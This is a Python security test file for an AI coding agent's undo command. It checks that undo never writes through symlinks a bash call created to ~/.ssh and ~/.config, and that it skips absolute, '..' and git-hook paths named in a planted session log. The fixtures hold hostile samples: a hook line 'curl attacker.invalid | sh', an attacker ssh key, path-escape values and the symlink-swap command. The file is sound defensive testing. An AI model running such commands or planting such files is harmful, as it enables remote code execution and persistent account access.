"""Undo writes only inside the workspace, never through a link, whatever the tree or the session
log says: a bash call that turned folders into links to ~/.config and ~/.ssh, `--force`, and a
session log that arrived with a clone naming absolute, `..` and protected paths.

Everything runs the way a user does it: a turn makes the changes (real tools and the sandboxed
bash through `Agent.turn`, a scripted model), the real `myrm undo` restores; the evidence is the
state of the folders outside the workspace.
"""

from __future__ import annotations

import hashlib
import shutil
from pathlib import Path

from myrm_tui.agent.undo import rewind as undo
from myrm_tui.store import Store, event_kinds
from tests.security.file_attacks import call, git, myrm, tree_state, turn


def _home(tmp_path: Path) -> Path:
    """The user's home as an attacker wants it: a myrm config folder and an ssh folder."""
    home = tmp_path / "home"
    (home / ".config" / "myrm").mkdir(parents=True)
    (home / ".ssh").mkdir()
    (home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA the-users-own-key\n")
    return home


def _workspace(tmp_path: Path) -> Path:
    workspace = tmp_path / "ws"
    (workspace / "conf").mkdir(parents=True)
    (workspace / "keys").mkdir()
    (workspace / "conf" / "config.toml").write_text('approval = "ask"\n')
    return workspace


def _swap_to_links(home: Path) -> str:
    """The bash call: the two folders become links to the user's config and ssh folders."""
    return (
        f"mv conf conf.away && mv keys keys.away && ln -s {home / '.config' / 'myrm'} conf "
        f"&& ln -s {home / '.ssh'} keys"
    )


async def _changes_then_links(tmp_path: Path, workspace: Path, home: Path) -> None:
    """One yolo turn, as `myrm run` drives it: two file changes, then the bash call."""
    calls = [
        call("file_edit", "c1", path="conf/config.toml", old='"ask"', new='"auto-edit"'),
        call("file_write", "c2", path="keys/authorized_keys", content="ssh-ed25519 AAAA deploy-key\n"),
        call("bash", "c3", command=_swap_to_links(home)),
    ]
    log = await turn(workspace, tmp_path / "scripts", calls)
    assert [f.status for f in log.finished] == ["ok"] * 3, [f.content for f in log.finished]
    assert (workspace / "conf").is_symlink() and (workspace / "keys").is_symlink()


async def test_undo_in_a_git_workspace_never_recreates_files_through_links_a_bash_call_left(tmp_path: Path):
    workspace = _workspace(tmp_path)
    (workspace / "keys" / ".keep").write_text("")
    git(workspace, "init", "-q")
    git(workspace, "add", "-A")
    git(workspace, "commit", "-q", "-m", "start")
    home = _home(tmp_path)
    await _changes_then_links(tmp_path, workspace, home)
    before = tree_state(home)
    for flags in (["--yes"], ["--yes", "--force"]):
        result = myrm(workspace, tmp_path / "user-config", "undo", *flags)
        assert tree_state(home) == before, (flags, result.stdout)
        assert result.returncode == 1, (flags, result.stdout, result.stderr)
        assert "blocked conf/config.toml: " in result.stdout
        assert f"conf is a symbolic link (to {home / '.config' / 'myrm'})" in result.stdout
        assert "Nothing was restored" in result.stderr and "remove the link" in result.stderr
    assert not (home / ".config" / "myrm" / "config.toml").exists()


async def test_undo_force_without_git_never_writes_or_deletes_through_links(tmp_path: Path):
    workspace = _workspace(tmp_path)
    home = _home(tmp_path)
    await _changes_then_links(tmp_path, workspace, home)
    before = tree_state(home)
    result = myrm(workspace, tmp_path / "user-config", "undo", "--yes", "--force")
    assert tree_state(home) == before, result.stdout
    assert (home / ".ssh" / "authorized_keys").read_text() == "ssh-ed25519 AAAA the-users-own-key\n"
    assert result.returncode == 1, (result.stdout, result.stderr)
    assert "blocked keys/authorized_keys: " in result.stdout and "Nothing was restored" in result.stderr
    # The user removes the links and puts the folders back: the same undo now restores everything.
    for name in ("conf", "keys"):
        (workspace / name).unlink()
        (workspace / f"{name}.away").rename(workspace / name)
    again = myrm(workspace, tmp_path / "user-config", "undo", "--yes")
    assert again.returncode == 0, (again.stdout, again.stderr)
    assert (workspace / "conf" / "config.toml").read_text() == 'approval = "ask"\n'
    assert not (workspace / "keys" / "authorized_keys").exists()
    assert tree_state(home) == before


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def test_a_session_log_from_a_clone_cannot_name_where_undo_writes(tmp_path: Path):
    """The repository ships `.myrm/` with a session whose checkpoint events name an absolute path,
    a `..` path and a git hook; the user clones it and runs `myrm undo --yes --force`."""
    home = _home(tmp_path)
    origin = tmp_path / "origin"
    origin.mkdir()
    store = Store.open(origin)
    try:
        session = store.create_session(model="scripted/x")
        turn = store.append_message(session.id, {"role": "user", "content": "hi"}, 1).id
        planted = {
            str(home / ".ssh" / "authorized_keys"): b"ssh-ed25519 AAAA attacker\n",
            "../escape.txt": b"escaped\n",
            "src/../../escape2.txt": b"escaped\n",
            ".git/hooks/post-checkout": b"#!/bin/sh\ncurl attacker.invalid | sh\n",
            "notes.txt": b"the notes before the turn\n",
        }
        for path, content in planted.items():
            after = _sha(b"the notes now\n") if path == "notes.txt" else None
            data = {
                "turn": turn,
                "path": path,
                "before": store.vault.put(content),
                "after": after,
                "source": "file-tool",
            }
            store.append_event(session.id, event_kinds.CHECKPOINT, data)
    finally:
        store.close()
    clone = tmp_path / "clone" / "ws"
    (clone / ".git" / "hooks").mkdir(parents=True)
    shutil.copytree(origin / ".myrm", clone / ".myrm")
    (clone / "notes.txt").write_text("the notes now\n")
    before = tree_state(home)

    # The preview, as the TUI dialog shows it (its text comes from the plan).
    store = Store.open(clone)
    try:
        shown = undo.summary(undo.plan_last(store, session.id, clone))
    finally:
        store.close()
    assert "restore notes.txt" in shown
    assert f"skip {home / '.ssh' / 'authorized_keys'}: outside the workspace" in shown
    assert "skip ../escape.txt: leaves the workspace" in shown
    assert "skip src/../../escape2.txt: leaves the workspace" in shown
    assert "skip .git/hooks/post-checkout: protected as git's hooks" in shown

    result = myrm(clone, tmp_path / "user-config", "undo", "--yes", "--force")
    assert result.returncode == 0, (result.stdout, result.stderr)
    assert tree_state(home) == before
    assert not (tmp_path / "clone" / "escape.txt").exists() and not (tmp_path / "clone" / "escape2.txt").exists()
    assert not (clone / ".git" / "hooks" / "post-checkout").exists()
    assert (clone / "notes.txt").read_text() == "the notes before the turn\n"
    assert "restored notes.txt" in result.stdout
    assert f"skipped {home / '.ssh' / 'authorized_keys'}: outside the workspace" in result.stdout
